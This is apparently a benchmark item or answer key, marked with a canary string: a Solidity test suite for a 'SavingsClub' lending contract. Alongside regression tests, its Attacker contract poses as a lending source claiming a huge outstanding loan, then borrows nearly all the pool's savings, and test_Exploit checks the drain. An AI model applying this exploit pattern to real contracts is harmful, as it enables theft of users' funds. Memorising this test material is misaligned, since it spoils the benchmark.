// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./SavingsClub.sol";
import {Purse} from "./context/Purse.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-c22f2e19-f407-47a2-bcd3-9c82e1b27622

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BOARD = address(0xB0A);
    address private constant IDA = address(0x1DA);
    address private constant OLE = address(0x01E);
    uint256 private constant START = 1_776_500_000;
    uint256 private constant SAVINGS = 60_000e6;

    Usd private usd;
    SavingsClub private club;
    Purse private purse;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        club = new SavingsClub(usd, BOARD);
        purse = new Purse(usd, address(club));
        vm.prank(BOARD);
        club.addSource(purse);
        usd.transfer(IDA, 100_000e6);
        usd.transfer(OLE, 20_000e6);
        vm.prank(OLE);
        usd.approve(address(club), type(uint256).max);
        vm.startPrank(IDA);
        usd.approve(address(club), type(uint256).max);
        club.join(SAVINGS, SAVINGS);
        vm.stopPrank();
        mallory = new Attacker(club, purse, usd);
        usd.transfer(address(mallory), 20e6);
    }

    function test_Regular() public {
        vm.prank(OLE);
        require(club.join(20_000e6, 20_000e6) == 20_000e6 && club.worth() == 80_000e6, "joined");
        vm.prank(OLE);
        require(club.borrow(purse, 10_000e6, 10_000e6) == 0, "first loan");
        require(usd.balanceOf(OLE) == 10_000e6 && club.lentBy(purse) == 10_000e6 && club.worth() == 80_000e6, "lent");

        // a second source, with a gift in it
        Purse second = new Purse(usd, address(club));
        vm.prank(BOARD);
        club.addSource(second);
        usd.transfer(address(second), 20_000e6);
        vm.prank(IDA);
        require(club.borrow(second, 8_000e6, 0) == 1 && usd.balanceOf(IDA) == 50_000e6, "dearer shares");
        vm.prank(OLE);
        club.repay(0);
        require(club.sharesOf(OLE) == 20_000e6 && usd.balanceOf(OLE) == 0, "repaid");

        // nobody comes back for the other one
        vm.warp(START + 365 days + 1);
        club.writeOff(1);
        require(club.worth() == 90_000e6 && club.totalShares() == 72_000e6 && club.lentBy(second) == 0, "written off");
        vm.prank(IDA);
        require(club.borrow(purse, 36_000e6, 0) == 2 && usd.balanceOf(IDA) == 95_000e6, "half of it");
    }

    function test_RefusesSources() public {
        vm.prank(IDA);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.NotTheBoard.selector));
        club.addSource(ISource(IDA));
        vm.startPrank(BOARD);
        vm.expectRevert("listed");
        club.addSource(purse);
        for (uint160 i = 1; i < 16; ++i) club.addSource(ISource(address(i)));
        vm.expectRevert("too many");
        club.addSource(ISource(BOARD));
        vm.stopPrank();
        vm.expectRevert("club only");
        purse.lend(address(this), 1);
    }

    function test_RefusesTooLittle() public {
        usd.transfer(address(purse), SAVINGS);
        vm.startPrank(IDA);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.TooLittle.selector, 1));
        club.join(1, 0);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.TooLittle.selector, 1e6));
        club.join(1e6, 0.5e6 + 1);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.TooLittle.selector, 2e6));
        club.borrow(purse, 1e6, 2e6 + 1);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.TooLittle.selector, 0));
        club.borrow(purse, 0, 0);
        vm.stopPrank();
    }

    function test_RefusesOtherLoans() public {
        vm.prank(IDA);
        club.borrow(purse, 5e6, 0);
        vm.prank(OLE);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.NotYourLoan.selector, 0));
        club.repay(0);
        vm.warp(START + 365 days);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.NotOver.selector, START + 365 days));
        club.writeOff(0);
        vm.warp(START + 366 days);
        club.writeOff(0);
        vm.expectRevert(abi.encodeWithSelector(SavingsClub.NotOver.selector, 0));
        club.writeOff(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= SAVINGS - 1e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Names itself as a source that has lent a fortune, then borrows from the real one.
contract Attacker is ISource {
    SavingsClub private club;
    ISource private purse;
    IERC20 private usd;

    constructor(SavingsClub club_, ISource purse_, IERC20 usd_) {
        club = club_;
        purse = purse_;
        usd = usd_;
    }

    function available() external pure returns (uint256) {
        return 0;
    }

    function lend(address, uint256) external pure returns (uint256) {
        return 1e17;
    }

    function run() external {
        usd.approve(address(club), 20e6);
        club.join(20e6, 0);
        club.borrow(this, 1e6, 0);
        uint256 pledge = (purse.available() * club.totalShares()) / club.worth();
        club.borrow(purse, pledge, 0);
    }
}
